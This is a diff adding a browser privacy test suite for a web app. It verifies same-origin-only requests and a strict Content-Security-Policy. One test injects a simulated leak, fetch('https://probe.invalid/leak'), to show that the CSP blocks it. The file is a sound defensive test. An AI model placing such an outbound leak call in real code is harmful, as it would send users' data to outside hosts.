@@ -1,0 +1,74 @@
+// The privacy guard: a whole session makes only same-origin GETs of the
+// app's static files, nothing after load, and trips no CSP rule.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { launch, serve, recordPrivacy, privacyProblems, screenshot } from "./harness.mjs";
+
+const REQUIRED_CSP =
+  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; style-src 'self'; " +
+  "img-src 'self' data:; font-src 'self'; base-uri 'none'; form-action 'none'";
+
+let browser, server, origin;
+before(async () => {
+  ({ server, origin } = await serve());
+  browser = await launch();
+});
+after(async () => {
+  await browser?.close();
+  server?.close();
+});
+
+test("a session loads only the static allowlist and sends nothing after load", async () => {
+  const context = await browser.newContext();
+  const rec = await recordPrivacy(context, origin);
+  const page = await context.newPage();
+  rec.watchPage(page);
+  await page.goto(origin + "/");
+  await page.getByTestId("app").waitFor();
+  await page.waitForLoadState("networkidle");
+  rec.markLoaded();
+
+  // Use the app: switch the language back and forth.
+  await page.getByTestId("lang-switch").selectOption("de");
+  await page.getByText("Sprache").waitFor();
+  await page.getByTestId("lang-switch").selectOption("en");
+  await page.getByText("Language").waitFor();
+  await page.waitForTimeout(300);
+  await screenshot(page, "shell");
+
+  assert.deepEqual(privacyProblems(rec, origin), []);
+  assert.deepEqual(rec.errors, [], "page errors");
+  assert.ok(rec.requests.some((r) => r.url.endsWith(".wasm")), "the wasm was loaded from the same origin");
+  await context.close();
+});
+
+test("the page carries the required Content-Security-Policy and no inline script", async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.goto(origin + "/");
+  await page.getByTestId("app").waitFor();
+  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
+  assert.equal(csp, REQUIRED_CSP);
+  const inline = await page.evaluate(() =>
+    [...document.scripts].filter((s) => !s.src).length + document.querySelectorAll("[style]").length);
+  assert.equal(inline, 0, "inline scripts or style attributes would need 'unsafe-inline'");
+  await context.close();
+});
+
+test("the CSP really blocks a request to another origin (the guard can fail)", async () => {
+  const context = await browser.newContext();
+  const rec = await recordPrivacy(context, origin);
+  const page = await context.newPage();
+  await page.goto(origin + "/");
+  await page.getByTestId("app").waitFor();
+  rec.markLoaded();
+  // An injected probe, as a compromised dependency would do it. `.invalid`
+  // never resolves, and the CSP stops it before any lookup.
+  const outcome = await page.evaluate(() =>
+    fetch("https://probe.invalid/leak").then(() => "sent", (e) => `blocked: ${e.name}`));
+  await page.waitForTimeout(200);
+  assert.match(outcome, /^blocked/);
+  const problems = privacyProblems(rec, origin);
+  assert.ok(problems.some((p) => p.startsWith("CSP violation: connect-src")), problems.join("\n"));
+  await context.close();
+});
